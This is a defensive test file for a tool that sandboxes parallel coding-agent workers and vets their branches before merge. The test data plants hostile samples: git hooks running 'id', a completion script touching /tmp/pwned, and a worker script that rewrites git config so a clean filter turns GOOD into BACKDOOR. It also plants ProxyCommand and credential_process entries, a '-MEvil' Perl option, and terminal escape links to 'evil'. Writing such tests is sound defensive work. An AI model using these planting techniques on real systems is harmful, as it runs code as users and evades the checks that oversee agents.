    assert code == 2 and "the tool's programs load" in err, err


def test_the_tool_imports_nothing_from_the_folder_it_starts_from(tmp_path):
    """Python puts the script's folder (the current one for `-m`) before the standard
    library: a merged `argparse.py` beside the copied tool stood in for argparse. Run as a
    program, the tool takes that folder off its path first."""
    folder = tmp_path / "project"
    folder.mkdir()
    shutil.copy(ap.__file__, folder / "architect_parallel.py")
    mark = tmp_path / "mark"
    for module in ("argparse", "shlex", "json", "subprocess"):
        (folder / f"{module}.py").write_text(f"open({str(mark)!r}, 'a').write('{module}')\n")
    for args in (["architect_parallel.py", "--version"], ["-m", "architect_parallel", "--version"],
                 ["architect_parallel.py", "list"]):
        proc = subprocess.run([sys.executable, *args], cwd=folder, capture_output=True, text=True,
                              env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"})
        assert "Traceback" not in proc.stderr and not mark.exists(), (args, proc.stderr)


# -- review round 50 ---------------------------------------------------------------------------

_LOADER = ("LD_LIBRARY_PATH", "LD_PRELOAD", "LD_AUDIT", "GCONV_PATH", "LOCPATH", "GIT_EXEC_PATH",
           "GIT_TEMPLATE_DIR", "PYTHONPATH")


@needs_bwrap
@pytest.mark.parametrize("what, value, allowed", [
    ("LD_LIBRARY_PATH", "{s}/sub;/usr/local/lib", "sub"),  # (glibc parts it at ';' too)
    ("PYTHONPYCACHEPREFIX", "{s}/sub", "sub"),  # (the next `list` ran its bytecode)
    ("OPENSSL_CONF", "{s}/sub/openssl.cnf", "sub"),  # (a provider module: loaded by hashlib)
    ("GIT_TEMPLATE_DIR", "{s}/sub", "sub"),  # (its hooks: your next `git clone`)
    ("PERL5LIB", "{s}/sub", "sub"),
    (".bashrc", '. "${{TEAM_ENV:-{s}/sub/env.sh}}"\n', "sub"),
    (".bashrc", "export PERL5LIB={s}\n", "sub"),  # (a folder in a named code folder)
    (".bashrc", ". {s}/$TEAM_NOT_SET/env.sh\n", "sub"),  # (cut at a variable: all of it)
    ("XDG_DATA_DIRS", "{s}/sub:/usr/share", "sub"),  # (round 51: xdg-open's .desktop files)
    ("CLAUDE_CONFIG_DIR", "{s}/sub/claude", "sub"),  # (its settings' hooks, your next claude)
    ("AWS_CONFIG_FILE", "{s}/sub/aws/config", "sub"),  # (credential_process)
    ("GNUPGHOME", "{s}/sub/gnupg", "sub"),
])
def test_more_places_your_programs_load_code_from_are_not_allowed(cli, repo, tmp_path, monkeypatch,
                                                                 what, value, allowed):
    """Round 50: `LD_LIBRARY_PATH='/usr/local/lib;'` (an empty entry after ';') got past the
    cleaning of round 49; Python's bytecode cache prefix, OpenSSL's config, git's templates
    and the other languages' search paths were not places; `${TEAM_ENV:-/srv/env.sh}` in
    ~/.bashrc was not read as a path, and a folder in one named for PERL5LIB counted as a file."""
    shared = tmp_path / "shared"
    (shared / "sub").mkdir(parents=True)
    monkeypatch.delenv("TEAM_NOT_SET", raising=False)
    if what == ".bashrc":
        home = tmp_path / "home"
        home.mkdir()
        (home / ".bashrc").write_text(value.format(s=shared))
        monkeypatch.setenv("HOME", str(home))
    else:
        monkeypatch.setenv(what, value.format(s=shared))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(shared / allowed))
    assert code == 2 and "--sandbox-allow" in err and "outside the sandbox" in err, err


@needs_bwrap
def test_a_folder_your_start_up_files_only_mention_can_be_allowed(cli, repo, tmp_path, monkeypatch):
    """No false alarm: `export DATA=/srv/data` and `alias d='cd /srv/data'` name no code."""
    data = tmp_path / "data"
    (data / "out").mkdir(parents=True)
    (data / "out").chmod(0o777)  # (as root, the sandbox's user writes it)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(f"export DATA={data}\nalias d='cd {data}'\n")
    monkeypatch.setenv("HOME", str(home))
    r, err = _one_worker(cli, tmp_path, f"echo result > {data / 'out' / 'x'}\n", "true", "bwrap",
                         "--sandbox-allow", str(data / "out"))
    assert r["status"] == "success" and (data / "out" / "x").read_text() == "result\n", (r, err)


@pytest.mark.parametrize("env, name", [
    ({"NODE_OPTIONS": "--require=./tools/otel.js"}, "tools/otel.js"),
    ({"PERL5OPT": "-I./lib -MEvil"}, "lib/Evil.pm"),
    ({"GIT_SSH_COMMAND": "ssh -o ProxyCommand=tools/proxy.sh"}, "tools/proxy.sh"),
    ({"EDITOR": "vim -u .vimrc"}, ".vimrc"),
    ({"PYTHONPATH": "src"}, "src/_myhack.py"),  # (what a .pth imports at every start)
])
def test_what_the_environment_names_in_other_forms_counts(repo, tmp_path, monkeypatch, env, name):
    """Round 50: `--require=./x.js` (an option's value after '='), `-I./lib` (after the
    option's letter), `ProxyCommand=x` (after a name and '='), `-u .vimrc` (a name the branch
    adds); and a module a .pth file of site-packages imports (setuptools' `_distutils_hack`),
    in a PYTHONPATH folder: the tool's next `list` ran it."""
    import site
    sites = tmp_path / "site"
    sites.mkdir()
    (sites / "hack.pth").write_text("import _myhack; _myhack.add_shim()\n")
    monkeypatch.setattr(site, "getsitepackages", lambda: [str(sites)])
    ap._shadowed.cache_clear()
    ap._pth_files.cache_clear()
    base, tip = _changes(repo, {name: "x\n"})
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    try:
        assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]
    finally:
        ap._shadowed.cache_clear()
        ap._pth_files.cache_clear()


@pytest.mark.parametrize("link, name", [(".config", ".config/git/config"),
                                        (".bashrc", "bashrc"), (".ssh", "ssh/config")])
def test_your_config_files_in_a_dotfiles_checkout_count_made_or_not(repo, tmp_path, monkeypatch,
                                                                   link, name):
    """Round 50: with `~/.config` a link into the dotfiles checkout, a branch adding
    `.config/git/config` (fsmonitor) was merged, and your next `git status` ran it; so was a
    change to the `bashrc` your `~/.bashrc` links to, and to your ssh config."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    target = repo / name.split("/")[0]
    if not target.exists() and "/" in name:
        target.mkdir()
    os.symlink(target, home / link)
    base, tip = _changes(repo, {name: "x\n", "a.txt": "y\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_the_ignore_rules_of_the_other_branches_merged_count(repo):
    """Round 50: `merge all`, one branch adding `.venv/` to .gitignore, the other a
    force-added `.venv/bin/git`: each was asked about against the base alone."""
    (repo / ".gitignore").write_text("*.log\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    base, one = _changes(repo, {".gitignore": "*.log\n.venv/\n"})
    git("branch", "-qD", "side", cwd=repo)
    git("checkout", "-q", "-b", "two", cwd=repo)
    (repo / ".venv" / "bin").mkdir(parents=True)
    (repo / ".venv" / "bin" / "git").write_text("#!/bin/sh\nid\n")
    git("add", "-f", ".venv/bin/git", cwd=repo)
    git("commit", "-qm", "venv", cwd=repo)
    two = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, two, (one,))
    assert any("adds files your ignore rules hide (.venv/bin/git)" in w for w in why), why


def test_no_loader_variable_set_means_no_loader_folder(repo, monkeypatch):
    """Round 50: unset loader variables read as an empty entry ('.'): `docs/git-workflow.md`,
    any `*.so` or `git-*` anywhere, was refused. An existing package named as a standard
    module (a Django app `email/`) is the project's own at the top; in a PYTHONPATH folder,
    every Python imports it: there a change counts."""
    for var in _LOADER:
        monkeypatch.delenv(var, raising=False)
    (repo / "email").mkdir()
    (repo / "email" / "__init__.py").write_text("")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "app", cwd=repo)
    base, tip = _changes(repo, {"docs/git-workflow.md": "x\n", "scripts/git-release.sh": "x\n",
                                "vendor/libfoo.so.1": "x\n", "email/views.py": "x\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == []
    monkeypatch.setenv("PYTHONPATH", ".")
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["email/views.py"]


def test_a_session_is_brought_back_through_no_link(tmp_path):
    """Round 51: what is brought back from the private HOME was written where the links of
    your CLI's folder led (`projects/<worktree>` a link, the session file a link to
    ~/.bashrc): now nothing below the CLI's folder is followed."""
    folder = tmp_path / "claude"
    (folder / "projects").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, folder / "projects" / "wt")
    source = tmp_path / "source"
    source.write_bytes(b"session")

    def put(where, rel):
        fd = os.open(source, os.O_RDONLY)
        try:
            return ap._put_beneath(str(where), rel, fd, 7)
        finally:
            os.close(fd)

    assert not put(folder, "projects/wt/s.jsonl")
    assert list(elsewhere.iterdir()) == []
    (folder / "projects" / "mine").mkdir()
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# yours\n")
    os.symlink(bashrc, folder / "projects" / "mine" / "s.jsonl")
    assert not put(folder, "projects/mine/s.jsonl")
    assert bashrc.read_text() == "# yours\n"
    assert put(folder, "projects/new/s.jsonl")
    assert (folder / "projects" / "new" / "s.jsonl").read_bytes() == b"session"
    assert put(tmp_path / "first" / ".claude", "projects/a/s.jsonl")
    assert (tmp_path / "first" / ".claude" / "projects" / "a" / "s.jsonl").read_bytes() == b"session"


def test_a_report_is_written_through_no_name_another_account_can_plant(tmp_path):
    """Round 51: `--results`, `--junit`, `--html`, `--summary` and `report --html` wrote a
    temporary file `.<name>.<pid>.tmp` beside the file asked for, following a link there:
    in /tmp another account planted links at the next pids (your ~/.bashrc was replaced by
    the report), or FIFOs (it hung). Now the temporary file is a new one of a random name."""
    victim = tmp_path / "bashrc"
    victim.write_text("# yours\n")
    target = tmp_path / "report.html"
    planted = tmp_path / f".report.html.{os.getpid()}.tmp"
    os.symlink(victim, planted)
    ap._write_text(str(target), "<html>report</html>\n")
    assert victim.read_text() == "# yours\n" and os.path.islink(planted)
    assert target.read_text() == "<html>report</html>\n" and not os.path.islink(target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~ap._umask()


@pytest.mark.parametrize("hook, name", [
    ("#!/bin/sh\nmake -C tools lint\n", "tools/Makefile"),
    ("#!/bin/sh\ncd web && npx lint-staged\n", "web/package.json"),
    ("#!/bin/sh\nnpm --prefix app test\n", "app/.npmrc"),
    ("#!/bin/sh\nlefthook run pre-commit\n", ".config/lefthook.yml")])
def test_what_a_hook_of_yours_reads_in_another_folder_counts(repo, hook, name):
    """Round 51: a hook running `make -C tools lint`: a branch rewriting `tools/Makefile`
    was merged (only the top's Makefile counted); and the files of a tool's list that lie
    in a folder (`.config/lefthook.yml`) were never counted."""
    base, tip = _changes(repo, {name: "x\n", "src/a.txt": "y\n"})
    hooks = repo / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "pre-commit").write_text(hook)
    os.chmod(hooks / "pre-commit", 0o755)
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


# -- review round 52 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["GIT_CONFIG_SYSTEM in HOME", "an include of the system config",
                                 "GIT_CONFIG_COUNT naming a file in HOME"])
def test_no_config_layer_of_the_runners_commit_inside_is_the_workers(cli, repo, tmp_path,
                                                                   monkeypatch, request, how):
    """Round 52: the runner's gits inside read the system config as it was
    (`GIT_CONFIG_SYSTEM=~/.gitsystem`, or an include of it into HOME), whose private copy the
    agent rewrote: a clean filter made the branch hold BACKDOOR where the checks read GOOD.
    The settings your environment gives naming a file in HOME were read there too. (HOME
    where the sandbox's user, as root, may go: /tmp/pytest-of-root is 0700.)"""
    home = pathlib.Path(tempfile.mkdtemp(prefix="architect-parallel-test-home-"))
    home.chmod(0o755)
    request.addfinalizer(lambda: shutil.rmtree(home, ignore_errors=True))
    monkeypatch.setenv("HOME", str(home))
    system = home / ".gitsystem"
    system.write_text("[core]\n\tautocrlf = false\n")
    (repo / "payload.txt").write_text("BAD\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "payload", cwd=repo)
    monkeypatch.delenv("GIT_CONFIG_NOSYSTEM")  # (conftest's)
    if how == "GIT_CONFIG_SYSTEM in HOME":
        monkeypatch.setenv("GIT_CONFIG_SYSTEM", str(system))
    elif how == "an include of the system config":
        outer = home.parent / f"{home.name}.sysconf"  # (beside HOME, where it can be read)
        outer.write_text(f"[include]\n\tpath = {system}\n")
        outer.chmod(0o644)
        request.addfinalizer(outer.unlink)
        monkeypatch.setenv("GIT_CONFIG_SYSTEM", str(outer))
    else:
        monkeypatch.setenv("GIT_CONFIG_SYSTEM", os.devnull)
        monkeypatch.setenv("GIT_CONFIG_COUNT", "2")
        monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.attributesFile")
        monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(home / "attrs"))
        monkeypatch.setenv("GIT_CONFIG_KEY_1", "filter.z.clean")
        monkeypatch.setenv("GIT_CONFIG_VALUE_1", "sed s/GOOD/BACKDOOR/")
    body = ("echo GOOD > payload.txt\n"
            "printf '[core]\\n\\tattributesFile = %s\\n[filter \"z\"]\\n\\tclean = sed s/GOOD/BACKDOOR/\\n'"
            " \"$HOME/attrs\" >> \"$HOME/.gitsystem\"\n"
            "printf 'payload.txt filter=z\\n' > \"$HOME/attrs\"\n")
    r, err = _one_worker(cli, tmp_path, body, "grep -q GOOD payload.txt", "bwrap")
    held = git("show", "architect/parallel-1:payload.txt", cwd=repo) if r["commit"] else ""
    assert "BACKDOOR" not in held, (r, err)
    assert r["status"] == "success" and held == "GOOD", (r, err)


@pytest.mark.parametrize("how", ["environment", "relative", ".bashrc"])
def test_a_module_standing_in_for_one_of_perls_own_counts(repo, tmp_path, monkeypatch, how):
    """Round 52: `PERL5LIB=$PWD/lib` and a branch adding `lib/strict.pm`: merged, and your
    `git send-email` (Perl, `use strict` first) ran it. A module of Perl's own in a folder of
    PERL5LIB (as your environment or your ~/.bashrc gives it) counts; the project's own
    `lib/Foo.pm` does not."""
    if not ap._language_libraries("perl"):
        pytest.skip("no perl here")
    base, tip = _changes(repo, {"lib/strict.pm": "1;\n", "lib/Foo.pm": "1;\n",
                                "lib/Getopt/Mine.pm": "1;\n"})
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("PERL5LIB", raising=False)
    if how == ".bashrc":
        (home / ".bashrc").write_text(f"export PERL5LIB={repo}/lib\n")
    else:
        monkeypatch.setenv("PERL5LIB", f"{repo}/lib" if how == "environment" else "lib")
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["lib/strict.pm"]


def test_a_code_folder_your_bashrc_gives_pythonpath_follows_the_pythonpath_rule(repo, tmp_path,
                                                                               monkeypatch):
    """Round 52: `export PYTHONPATH=~/proj/src` in ~/.bashrc made every change under `src/`
    ask for --force (a Perl file too); the same PYTHONPATH in the environment only counts
    modules that stand in for the standard library's. One rule for both."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(f"export PYTHONPATH={repo}/src\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("PYTHONPATH", raising=False)
    base, tip = _changes(repo, {"src/mypkg/__init__.py": "", "src/Foo.pm": "1;\n",
                                "src/app.py": "print(2)\n", "src/sitecustomize.py": "x\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["src/sitecustomize.py"]


def test_a_remote_given_as_a_file_url_into_the_checkout_counts(repo):
    """Round 52: `git remote add bk file://$PWD/backup.git`: a branch planting
    `backup.git/hooks/pre-receive` was merged, and `git push bk` ran it (as ./backup.git,
    merge refused it)."""
    git("remote", "add", "bk", f"file://{repo}/backup.git", cwd=repo)
    base, tip = _changes(repo, {"backup.git/hooks/pre-receive": "#!/bin/sh\nid\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["backup.git/hooks/pre-receive"]


@pytest.mark.parametrize("text", ["fix\x1b]8;;https://evil\x07link\x1b]8;;\x07", "a\rb",
                                  "\u202eevil", "ok\x1b[8mhidden"])
def test_commits_whose_messages_or_names_hold_control_characters_ask_for_force(repo, text):
    """Round 52: an agent's commit message (or author name) with ESC[8m, an OSC 8 link, a
    title change: merged, and your `git log` (less -R) passed them to your terminal."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    (repo / "a.txt").write_text("x\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", text, cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal control characters" in w for w in why), why
    git("checkout", "-q", "side", cwd=repo)
    git("commit", "-q", "--amend", "-m", "plain message\n\n\tindented body", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    assert not any("control" in w for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


# -- review round 53 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["~/go/pkg/mod", "GOMODCACHE", "~/R"])
def test_a_cache_your_builds_run_code_from_is_not_allowed(cli, repo, tmp_path, monkeypatch, how):
    """Round 53: `--sandbox-allow ~/go/pkg/mod`, which the tool's own refusal of `~/go`
    suggested: the worker rewrote a cached module, and your next `go run` ran it as you."""
    home = tmp_path / "home"
    allowed = {"~/go/pkg/mod": home / "go" / "pkg" / "mod", "~/R": home / "R" / "x86_64-library",
               "GOMODCACHE": tmp_path / "modcache"}[how]
    allowed.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    if how == "GOMODCACHE":
        monkeypatch.setenv("GOMODCACHE", str(allowed))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(allowed))
    assert code == 2 and "outside the sandbox" in err and "go/pkg/mod" not in err.split(
        "allow a folder")[-1], err


@pytest.mark.parametrize("env, name", [
    ({"KUBECONFIG": "{repo}/.kube/config"}, ".kube/config"),  # (users[].exec.command)
    ({"AWS_CONFIG_FILE": "{repo}/aws/config"}, "aws/config"),  # (credential_process)
    ({"VIRTUAL_ENV": "{repo}/venv"}, "venv/lib/python3/site-packages/x.pth"),
    ({"JAVA_TOOL_OPTIONS": "-javaagent:./tools/agent.jar"}, "tools/agent.jar"),
])
def test_a_programs_settings_your_environment_places_in_the_checkout_count(repo, monkeypatch,
                                                                          env, name):
    """Round 53: `KUBECONFIG=$PWD/.kube/config` (a project's, often set by direnv), and a
    branch giving its user an `exec` command: merged, and your next `kubectl` ran it. What a
    variable of yours names as a program's settings, state or code (as --sandbox-allow reads
    them) counts; and `-javaagent:` as an option's value."""
    base, tip = _changes(repo, {name: "x\n", "src/a.txt": "y\n"})
    for key, value in env.items():
        monkeypatch.setenv(key, value.replace("{repo}", str(repo)))
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_a_new_package_named_as_an_installed_one_at_the_top_counts(repo):
    """Round 53: a `pip/` the branch adds at the top: `python -m pip` there ran it."""
    if "pip" not in ap._installed():
        pytest.skip("no pip in this Python's site-packages")
    base, tip = _changes(repo, {"pip/__init__.py": "", "pip/__main__.py": "x\n"})
    assert sorted(ap._Repo.find(str(repo)).run_by_your_git(base, tip)) == [
        "pip/__init__.py", "pip/__main__.py"]


def test_file_names_that_reorder_text_ask_for_force(repo):
    """Round 53: `a\\u202etxt.sh` shows as `ahs.txt` in your `git status` with
    core.quotePath off (common for CJK users)."""
    base, tip = _changes(repo, {"a\u202etxt.sh": "x\n"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("names hold terminal control characters" in w for w in why), why


@pytest.mark.parametrize("envrc, name", [("source_env scripts/env.sh\n", "scripts/env.sh"),
                                         ("dotenv\n", ".env"), ("PATH_add bin\n", "bin/tool"),
                                         ("layout python3\n", ".direnv/python/bin/activate")])
def test_what_your_allowed_envrc_loads_counts(repo, tmp_path, monkeypatch, envrc, name):
    """Round 53: direnv asks again only for an `.envrc` that changed, not for what it loads:
    a merged `.env` set PROMPT_COMMAND, a merged `scripts/env.sh` ran at your next `cd`."""
    tools = tmp_path / "direnv-bin"
    tools.mkdir()
    script(tools, "direnv", "exit 0\n")
    (repo / ".envrc").write_text(envrc)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "envrc", cwd=repo)
    base, tip = _changes(repo, {name: "x\n", "src/a.txt": "y\n"})
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_the_step_summary_counts_the_workers_without_results():
    """Round 53: after `collect` of one worker of three, the summary said `1/1 succeeded`
    where the table, the report and `--require all` count three."""
    r = ap.WorkerResult(worker_id=1, branch="b", model="m", task="t", status="success", steps=1,
                        cost=0.0, duration=1.0, files_modified=[], worktree_path="")
    text = ap._summary_markdown([r], total=3)
    assert "1/3 succeeded (2 without results)." in text, text


# -- review round 54 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("name, text", [
    (".aws/config", "[default]\ncredential_process = {s}/cred.sh\n"),
    (".kube/config", "users:\n- name: u\n  user:\n    exec:\n      command: {s}/k.sh\n"),
    (".gnupg/gpg-agent.conf", "pinentry-program {s}/pinentry\n"),
    (".ssh/config", "Host *\n  ProxyCommand {s}/proxy %h %p\n"),
    ("PATH", ""),  # (bash-completion: X/share/bash-completion/completions/CMD of X/bin)
])
def test_a_folder_a_settings_file_of_yours_names_is_not_allowed(cli, repo, tmp_path, monkeypatch,
                                                               name, text):
    """Round 54: `credential_process = /srv/team/cred.sh` in ~/.aws/config, with
    `--sandbox-allow /srv/team`: the worker wrote cred.sh, your next `aws` ran it. Any
    settings file in HOME's dot folders names what counts; so does what bash-completion
    loads beside a folder of your PATH."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    shared = tmp_path / "team"
    shared.mkdir()
    allowed = shared
    if name == "PATH":
        (shared / "bin").mkdir()
        allowed = shared / "share"
        allowed.mkdir()
        monkeypatch.setenv("PATH", f"{shared / 'bin'}{os.pathsep}{os.environ['PATH']}")
    else:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text.format(s=shared))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(allowed))
    assert code == 2 and "outside the sandbox" in err, err


@pytest.mark.parametrize("how, name", [
    ("PATH", "share/bash-completion/completions/hello"),
    ("ZDOTDIR in ~/.zshenv", "zsh/.zshrc"), ("ZDOTDIR", "zsh/.zshrc"),
    ("BASH_COMPLETION_USER_DIR", "comp/completions/git")])
def test_what_your_shell_loads_by_other_ways_from_the_checkout_counts(repo, tmp_path, monkeypatch,
                                                                     how, name):
    """Round 54: bash-completion 2.12 sources `X/share/bash-completion/completions/CMD` for a
    PATH folder `X/bin` (your project's `bin/` on PATH); `ZDOTDIR` moves zsh's start-up files
    into a dotfiles checkout; `BASH_COMPLETION_USER_DIR` is where bash-completion looks first."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    base, tip = _changes(repo, {name: "touch /tmp/pwned\n", "src/a.txt": "y\n"})
    if how == "PATH":
        monkeypatch.setenv("PATH", f"{repo / 'bin'}{os.pathsep}{os.environ['PATH']}")
    elif how == "ZDOTDIR in ~/.zshenv":
        (home / ".zshenv").write_text(f"export ZDOTDIR={repo}/zsh\n")
    else:
        monkeypatch.setenv(how, str(repo / name.split("/")[0]))
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_list_shows_a_collected_workers_verdict(cli, repo, tmp_path):
    """Round 54: collected results name no worktree (`worktree_path: ""`); `list` matched by
    worktree path and showed `-` where collect, report and `merge best` said success."""
    agent = script(tmp_path, "w.sh", "echo x > a.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    state = repo / ".git" / "architect-parallel" / "last-run.json"
    data = json.loads(state.read_text())
    data["results"][0]["worktree_path"] = ""
    state.write_text(json.dumps(data))
    code, out, _err = cli("list", "--json")
    assert code == 0 and json.loads(out)[0]["status"] == "success", out


@pytest.mark.parametrize("field, value", [("exit_code", 10 ** 400), ("exit_code", 1 << 40),
                                          ("duration", 1e308), ("duration", -5.0)],
                         ids=["400 digits", "2**40", "1e308 s", "negative"])
def test_a_results_file_with_numbers_out_of_reason_is_refused(field, value):
    """Round 54: a 4,000-digit exit code and a duration of 1e308 were taken from a collected
    results file and printed whole in the report, JUnit and all.json."""
    item = {"worker_id": 1, "branch": "architect/parallel-1", "model": "m", "status": "success",
            "steps": 1, "cost": 0.0, "duration": 1.0, "files_modified": [], "worktree_path": "",
            field: value}
    with pytest.raises(ap.ParallelError) as caught:
        ap._result_from_dict(item, "r.json")
    assert len(str(caught.value)) < 200, caught.value


# -- review round 55 ---------------------------------------------------------------------------

@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_checks_read_the_line_ends_a_text_attribute_gives_a_file_git_calls_binary(cli, repo,
                                                                                tmp_path, sandbox):
    """Round 55: `d.bin text` and a d.bin holding a NUL (or a lone CR) and CRLF lines: git
    calls it binary (`i/-text`), yet the `text` attribute still makes the commit hold LF. The
    check read the worktree's CRLF and passed; a checkout of the branch fails it."""
    (repo / ".gitattributes").write_text("*.bin text\n*.sh text eol=lf\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "attributes", cwd=repo)
    body = ("printf 'hdr\\000line1\\r\\nline2\\r\\n' > d.bin\n"
            "printf '# a \\r(lone CR)\\nexit 0\\r\\n' > t.sh\n")
    check = ("python3 -c \"import sys; sys.exit(b'\\r\\n' not in open('d.bin','rb').read())\"")
    r, err = _one_worker(cli, tmp_path, body, check, sandbox)
    held = subprocess.run(["git", "show", "architect/parallel-1:d.bin"], cwd=repo,
                          capture_output=True).stdout if r["commit"] else b""
    assert not (r["checks_passed"] == 1 and b"\r\n" not in held), (r, held, err)
    assert r["checks_passed"] == 0, (r, err)  # (status: the agent's own outcome)


@needs_bwrap
@pytest.mark.parametrize("where, text", [
    (".ssh/config", "Host *\n  ProxyCommand $HOME/tools/proxy.sh %h %p\n"),
    (".ssh/config", "Host x\n  ProxyCommand ${HOME}/tools/p %h\n"),
    ("gitconfig", "[credential]\n\thelper = !$HOME/tools/cred.sh\n"),
])
def test_a_program_your_settings_name_through_home_is_not_allowed(cli, repo, tmp_path, monkeypatch,
                                                                  where, text):
    """Round 55: `ProxyCommand $HOME/tools/proxy.sh` and `helper = !$HOME/tools/cred.sh`: the
    shell that runs them reads $HOME; the tool did not, and allowed ~/tools."""
    home = tmp_path / "home"
    (home / "tools").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    target = tmp_path / "gitconfig" if where == "gitconfig" else home / where
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(home / "tools"))
    assert code == 2 and "outside the sandbox" in err, err


@needs_bwrap
def test_a_variable_named_src_and_a_comment_refuse_nothing(cli, repo, tmp_path, monkeypatch):
    """Round 55: `SRC=/srv/data` (a name ending in "rc") and `# my data lives in /srv/data2`
    in ~/.bashrc made those folders refused."""
    data = tmp_path / "data"
    data.mkdir()
    data.chmod(0o777)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(f"# my data lives in {data} (not code)\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SRC", str(data))
    r, err = _one_worker(cli, tmp_path, f"echo out > {data}/x\n", "true", "bwrap",
                         "--sandbox-allow", str(data))
    assert r["status"] == "success" and (data / "x").exists(), (r, err)


def test_a_folder_git_takes_for_a_repository_asks_for_force(repo):
    """Round 55: `docs/HEAD`, `docs/config` (core.fsmonitor), `docs/objects/.keep` and
    `docs/refs/heads/.keep`: git in `docs/` took it for a bare repository and ran the
    fsmonitor at `git status` (and your prompt runs git in every folder you enter)."""
    base, tip = _changes(repo, {"docs/HEAD": "ref: refs/heads/main\n",
                                "docs/config": "[core]\n\tbare = false\n\tworktree = .\n",
                                "docs/objects/.keep": "", "docs/refs/heads/.keep": "",
                                "docs/README.md": "# docs\n"})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("makes docs a folder git takes for a repository" in w for w in why), why
    git("branch", "-qD", "side", cwd=repo)
    base, tip = _changes(repo, {"src/refs/notes.md": "x\n", "src/HEAD.md": "y\n"})
    assert not any("repository of its own" in w
                   for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


# -- review round 56 ---------------------------------------------------------------------------

@pytest.mark.parametrize("target", [".architect-parallel-1/build/Makefile.real", "/tmp/att/Makefile",
                                    "../../outside/Makefile", "sub/../../x"])
def test_a_link_leading_out_of_what_is_merged_asks_for_force(repo, target):
    """Round 56: `Makefile -> .architect-parallel-1/build/Makefile.real` (an ignored file in
    the worker's worktree, never committed) or `-> /tmp/att/Makefile` (another account's):
    merged, and your `make` ran what no diff showed."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    os.symlink(target, repo / "Makefile")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "link", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("adds links that lead to no file or folder of what is merged (Makefile ->" in w
               for w in why), why


def test_a_link_inside_what_is_merged_asks_nothing(repo):
    """No false alarm: `docs/latest -> v2`, `lib/a.py -> ../src/a.py`."""
